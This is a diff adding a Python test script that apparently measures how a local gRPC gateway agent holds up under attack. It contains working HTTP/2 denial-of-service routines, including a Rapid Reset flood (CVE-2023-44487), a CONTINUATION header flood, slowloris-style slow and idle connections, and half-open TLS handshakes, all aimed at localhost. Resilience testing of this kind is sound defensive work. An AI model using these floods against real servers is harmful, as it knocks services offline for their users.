@@ -1,0 +1,270 @@
+"""What can be thrown at a TCP address of a gateway. Each attack goes on until its time is over; plain sockets, no gRPC.
+
+python attacks.py NAME PORT SECONDS      attacks
+python attacks.py measure                starts a service, attacks it, prints its p99 against that of quiet times
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import os
+import random
+import socket
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS = b"\0\0\0\x04\0\0\0\0\0"
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """One HTTP/2 frame."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    """A header, not indexed, not compressed."""
+
+    def text(data: bytes) -> bytes:
+        if len(data) < 127:
+            return bytes([len(data)]) + data
+        rest, more = len(data) - 127, b""
+        while rest >= 128:
+            more += bytes([rest % 128 | 0x80])
+            rest //= 128
+        return b"\x7f" + more + bytes([rest]) + data
+
+    return b"\0" + text(name) + text(value)
+
+
+CALL = (
+    literal(b":method", b"POST")
+    + literal(b":scheme", b"http")
+    + literal(b":path", b"/modctl.v1.ModuleService/ListModules")
+    + literal(b":authority", b"x")
+    + literal(b"te", b"trailers")
+    + literal(b"content-type", b"application/grpc")
+)
+
+
+def dialled(port: int) -> socket.socket:
+    """A connection."""
+    made = socket.create_connection(("127.0.0.1", port), 5)
+    made.settimeout(2)
+    return made
+
+
+def drain(one: socket.socket) -> None:
+    """Reads what is there."""
+    one.setblocking(False)
+    with contextlib.suppress(OSError):
+        while one.recv(65536):
+            pass
+    one.settimeout(2)
+
+
+def garbage(port: int, until_s: float) -> int:
+    """Random bytes, other protocols, a preface and then nonsense."""
+    source = random.Random(7)
+    count = 0
+    while time.monotonic() < until_s:
+        with contextlib.suppress(OSError), dialled(port) as one:
+            start = source.choice([b"", b"GET / HTTP/1.1\r\n\r\n", PREFACE, PREFACE + SETTINGS, b"\x16\x03\x01"])
+            one.sendall(start + source.randbytes(source.choice([1, 100, 5000])))
+            one.recv(100)
+        count += 1
+        time.sleep(0.002)
+    return count
+
+
+def slow_bytes(port: int, until_s: float) -> int:
+    """Two hundred connections that say one byte of a good call now and then."""
+    call = PREFACE + SETTINGS + frame(1, 4, 1, CALL)
+    ones = []
+    for _ in range(200):
+        with contextlib.suppress(OSError):
+            ones.append(dialled(port))
+    at = 0
+    while time.monotonic() < until_s:
+        for one in ones:
+            with contextlib.suppress(OSError):
+                one.send(call[at % len(call) : at % len(call) + 1])
+        at += 1
+        time.sleep(0.1)
+    for one in ones:
+        one.close()
+    return len(ones)
+
+
+def idle(port: int, until_s: float) -> int:
+    """A thousand connections that have said hello and say no more."""
+    ones = []
+    for _ in range(1000):
+        with contextlib.suppress(OSError):
+            one = dialled(port)
+            one.sendall(PREFACE + SETTINGS)
+            ones.append(one)
+    time.sleep(max(0.0, until_s - time.monotonic()))
+    for one in ones:
+        one.close()
+    return len(ones)
+
+
+def half_open(port: int, until_s: float) -> int:
+    """Three hundred handshakes that were begun and never ended: half a ClientHello each."""
+    hello = bytes.fromhex("16030100c8010000c40303") + os.urandom(20)
+    ones = []
+    for _ in range(300):
+        with contextlib.suppress(OSError):
+            one = dialled(port)
+            one.sendall(hello)
+            ones.append(one)
+    time.sleep(max(0.0, until_s - time.monotonic()))
+    for one in ones:
+        one.close()
+    return len(ones)
+
+
+def rapid_reset(port: int, until_s: float) -> int:
+    """Streams that are opened and cancelled at once (CVE-2023-44487)."""
+    count = 0
+    while time.monotonic() < until_s:
+        with contextlib.suppress(OSError), dialled(port) as one:
+            one.sendall(PREFACE + SETTINGS)
+            stream = 1
+            while time.monotonic() < until_s and stream < 20_001:
+                batch = b""
+                for _ in range(50):
+                    batch += frame(1, 4, stream, CALL) + frame(3, 0, stream, b"\0\0\0\x08")
+                    stream += 2
+                    count += 1
+                one.sendall(batch)
+                drain(one)
+                time.sleep(0.005)
+    return count
+
+
+def big_metadata(port: int, until_s: float) -> int:
+    """Calls with 64 KiB of headers, and headers that go on for ever in CONTINUATION frames."""
+    count = 0
+    while time.monotonic() < until_s:
+        with contextlib.suppress(OSError), dialled(port) as one:
+            one.sendall(PREFACE + SETTINGS)
+            block = CALL + literal(b"x", b"y" * 65_000)
+            one.sendall(frame(1, 0, 1, block[:16_000]))
+            for start in range(16_000, len(block), 16_000):
+                one.sendall(frame(9, 0, 1, block[start : start + 16_000]))
+            for _ in range(20):
+                one.sendall(frame(9, 0, 1, literal(b"z", b"y" * 15_000)))
+            one.recv(100)
+        count += 1
+        time.sleep(0.005)
+    return count
+
+
+ATTACKS: dict[str, Callable[[int, float], int]] = {
+    "garbage": garbage,
+    "slow_bytes": slow_bytes,
+    "idle": idle,
+    "half_open": half_open,
+    "rapid_reset": rapid_reset,
+    "big_metadata": big_metadata,
+}
+
+SERVICE = """
+import http.server, sys
+from modctl import agent
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    disable_nagle_algorithm = True
+    wbufsize = -1
+    def do_GET(self):
+        body = str(sum(range(3000))).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *arguments): pass
+agent.start(service="shop", listen=f"127.0.0.1:{sys.argv[2]}", required=True)
+http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
+"""
+
+
+def latencies_ms(port: int, seconds: float) -> list[float]:
+    """How long each of many requests to the service took, one after the other."""
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+    found = []
+    until_s = time.monotonic() + seconds
+    while time.monotonic() < until_s:
+        before_s = time.perf_counter()
+        connection.request("GET", "/")
+        answer = connection.getresponse()
+        assert answer.status == 200
+        answer.read()
+        found.append((time.perf_counter() - before_s) * 1000)
+        time.sleep(0.001)
+    connection.close()
+    return found
+
+
+def p99(values: list[float]) -> float:
+    """The 99th percentile."""
+    return sorted(values)[int(len(values) * 0.99)]
+
+
+def under_attack(name: str, http_port: int, port: int, seconds: float) -> list[float]:
+    """The service's latencies while a process of its own attacks the gateway."""
+    attacker = subprocess.Popen([sys.executable, __file__, name, str(port), str(seconds + 1)])
+    try:
+        time.sleep(0.7)
+        return latencies_ms(http_port, seconds)
+    finally:
+        attacker.kill()
+        attacker.wait()
+
+
+def measure(rounds: int = 5, seconds: float = 2.0) -> None:
+    """Prints a line for each attack: p99 under attack, p99 in quiet, and their ratio; the median of the rounds."""
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+    from support.services import Service, free_port
+
+    with tempfile.TemporaryDirectory(dir="/tmp", prefix="mc-") as folder:
+        state = Path(folder) / "state"
+        state.mkdir(mode=0o700)
+        program = Path(folder) / "host.py"
+        program.write_text(SERVICE)
+        http_port, port = free_port(), free_port()
+        service = Service([sys.executable, program, str(http_port), str(port)], state_dir=state)
+        try:
+            service.wait_for_agents(1)
+            latencies_ms(http_port, 1.0)
+            for name in ATTACKS:
+                quiet, loud = [], []
+                for _ in range(rounds):
+                    quiet.append(p99(latencies_ms(http_port, seconds)))
+                    loud.append(p99(under_attack(name, http_port, port, seconds)))
+                ratios = [one / other for one, other in zip(loud, quiet, strict=True)]
+                middle = statistics.median
+                print(
+                    f"{name:13} p99 {middle(loud):6.2f} ms, quiet {middle(quiet):6.2f} ms, ratio median "
+                    f"{middle(ratios):.2f}, best {min(ratios):.2f}",
+                    flush=True,
+                )
+        finally:
+            service.end()
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "measure":
+        measure()
+    else:
+        print(ATTACKS[sys.argv[1]](int(sys.argv[2]), time.monotonic() + float(sys.argv[3])))
